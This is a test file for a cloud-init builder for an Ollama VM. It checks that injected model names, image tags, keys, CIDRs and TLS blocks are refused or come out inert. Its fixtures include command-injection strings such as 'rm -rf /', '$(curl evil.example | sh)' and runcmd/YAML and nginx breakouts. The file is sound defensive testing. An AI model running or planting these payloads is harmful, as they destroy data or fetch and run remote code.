import { beforeAll, describe, expect, it } from 'vitest'
import { Secret } from '../../src/shared/secret.js'
import {
  RecipeSettingError,
  VM_PATHS,
  buildUserData,
  generateInstanceCredentials,
  type InstanceCredentials,
  type RecipeSettings,
} from '../../src/recipe/index.js'
import { cloudConfigErrors, decodeAndParse, fileContent } from './helpers/cloud-config.js'

/**
 * Values an attacker or a typo could feed the recipe. Each is either refused with a typed,
 * one-line error that names the setting (and never echoes a secret), or provably inert: it
 * comes out of the YAML exactly as a value, in a character set no shell, YAML or nginx parser
 * treats specially.
 */
let creds: InstanceCredentials

beforeAll(async () => {
  creds = await generateInstanceCredentials()
})

function base(overrides: Partial<RecipeSettings> = {}): RecipeSettings {
  return {
    name: 'exollama',
    ollamaKey: creds.ollamaKey,
    tls: { certPem: creds.certPem, keyPem: creds.keyPem },
    gpu: false,
    idleTimeoutS: 1800,
    maxLifetimeS: 86_400,
    ...overrides,
  }
}

function refused(overrides: Partial<RecipeSettings>): RecipeSettingError {
  let error: unknown
  try {
    buildUserData(base(overrides))
  } catch (e) {
    error = e
  }
  expect(error).toBeInstanceOf(RecipeSettingError)
  const e = error as RecipeSettingError
  expect(e.code).toBe('recipe_invalid_setting')
  expect(e.message).not.toMatch(/[\n\r]/)
  return e
}

describe('hostile values are refused', () => {
  it.each([
    'qwen; rm -rf /',
    'qwen2.5:0.5b; rm -rf /',
    'qwen"; rm -rf / #',
    "qwen'$(reboot)'",
    'qwen\nruncmd: [reboot]',
    '$(curl evil.example | sh)',
    '`id`',
    'qwen && reboot',
    'qwen|sh',
    'qwen > /etc/passwd',
  ])('model name %j', (model) => {
    const e = refused({ preloadModels: ['qwen2.5:0.5b', model] })
    expect(e.setting).toBe('preloadModels[1]')
    expect(e.message).toContain(JSON.stringify(model).slice(0, 20))
  })

  it.each([
    ['with spaces', 'my secret key is long'],
    ['starting with ~ (a regex in nginx)', '~.*abcdefghijklmnop'],
    ['with a quote', 'abcdefghij"klmnopqr'],
    ['with a semicolon and brace', 'abcdefgh;}ijklmnopqr'],
    ['with a newline', 'abcdefghij\nklmnopqr'],
    ['with $', 'abcdefghij$klmnopqr'],
    ['too short', 'short-key'],
  ])('key %s, never echoed', (_, key) => {
    const e = refused({ ollamaKey: new Secret(key) })
    expect(e.setting).toBe('ollamaKey')
    expect(e.message).not.toContain(key)
    expect(JSON.stringify(e)).not.toContain(key)
  })

  it.each(['0.32.15; reboot', '0.32.15 --privileged', '$(id)', '../../x', 'a b', ''])(
    'image tag %j',
    (tag) => {
      expect(refused({ ollamaImageTag: tag }).setting).toBe('ollamaImageTag')
    },
  )

  it.each(['30m; reboot', "30m' -e X='1", '$(id)'])('keep-alive %j', (keepAlive) => {
    expect(refused({ keepAlive }).setting).toBe('keepAlive')
  })

  it.each(['10.0.0.0/8; deny all', '0.0.0.0/0 1; } server {', 'any'])('CIDR %j', (cidr) => {
    expect(refused({ allowedCidrs: ['10.0.0.0/8', cidr] }).setting).toBe('allowedCidrs[1]')
  })

  it('names, numbers, releases, drivers', () => {
    expect(refused({ name: 'x; reboot' }).setting).toBe('name')
    expect(refused({ idleTimeoutS: -1 }).setting).toBe('idleTimeoutS')
    expect(refused({ maxLifetimeS: 1.5 }).setting).toBe('maxLifetimeS')
    expect(refused({ watchdogGraceS: Number.NaN }).setting).toBe('watchdogGraceS')
    expect(refused({ ubuntu: '20.04' as '22.04' }).setting).toBe('ubuntu')
    expect(refused({ nvidiaDriver: '580; reboot' }).setting).toBe('nvidiaDriver')
    expect(refused({ gpu: 'yes' as unknown as boolean }).setting).toBe('gpu')
  })

  it('a TLS key that does not match the certificate, or is not a key', async () => {
    const other = await generateInstanceCredentials()
    const mismatch = refused({ tls: { certPem: creds.certPem, keyPem: other.keyPem } })
    expect(mismatch.setting).toBe('tls.keyPem')
    expect(mismatch.message).not.toContain(other.keyPem.reveal().split('\n')[1])
    const garbage = refused({ tls: { certPem: creds.certPem, keyPem: new Secret('not a key') } })
    expect(garbage.setting).toBe('tls.keyPem')
    expect(refused({ tls: { certPem: 'runcmd: [reboot]', keyPem: creds.keyPem } }).setting).toBe(
      'tls.certPem',
    )
  })
})

describe('accepted values are inert', () => {
  it('text around the PEM blocks never reaches the VM', () => {
    const junk = 'runcmd: [reboot]\n- $(reboot)\n\'"\n'
    const out = buildUserData(
      base({
        tls: {
          certPem: junk + creds.certPem + junk,
          keyPem: new Secret(junk + creds.keyPem.reveal() + junk),
        },
      }),
    )
    expect(out.cloudConfig).not.toContain('$(reboot)')
    const decoded = decodeAndParse(out.userData)
    expect(fileContent(decoded, VM_PATHS.tlsCert)).toBe(creds.certPem)
    expect(fileContent(decoded, VM_PATHS.tlsKey)).toBe(creds.keyPem.reveal())
    expect(decoded.doc.runcmd).toEqual([[VM_PATHS.bootScript, 'first-boot']])
  })

  it('random strings from a hostile alphabet are refused or come out unchanged and inert', () => {
    // A seeded generator: the same cases on every run.
    let seed = 0x2545f491
    const next = () => {
      seed ^= seed << 13
      seed ^= seed >>> 17
      seed ^= seed << 5
      return (seed >>> 0) / 0x1_0000_0000
    }
    const alphabet = 'aZ09._:/-~ ;$()`\'"\\\n\t#{}|&<>*?![]=%@,'
    const random = (n: number) =>
      Array.from({ length: n }, () => alphabet[Math.floor(next() * alphabet.length)]).join('')
    let accepted = 0
    for (let i = 0; i < 300; i++) {
      const model = random(1 + Math.floor(next() * 12))
      const tag = random(1 + Math.floor(next() * 8))
      for (const overrides of [{ preloadModels: [model] }, { ollamaImageTag: tag }]) {
        let out
        try {
          out = buildUserData(base(overrides))
        } catch (e) {
          expect(e).toBeInstanceOf(RecipeSettingError)
          continue
        }
        accepted++
        const value = 'preloadModels' in overrides ? model : tag
        expect(value).toMatch(/^[A-Za-z0-9._:/-]+$/)
        const decoded = decodeAndParse(out.userData)
        expect(cloudConfigErrors(decoded.doc)).toEqual([])
        expect(fileContent(decoded, VM_PATHS.recipeEnv)).toContain(
          `'${'preloadModels' in overrides ? value : `ollama/ollama:${value}`}'`,
        )
      }
    }
    // The alphabet is mostly hostile, but some inert strings must get through.
    expect(accepted).toBeGreaterThan(0)
  })
})
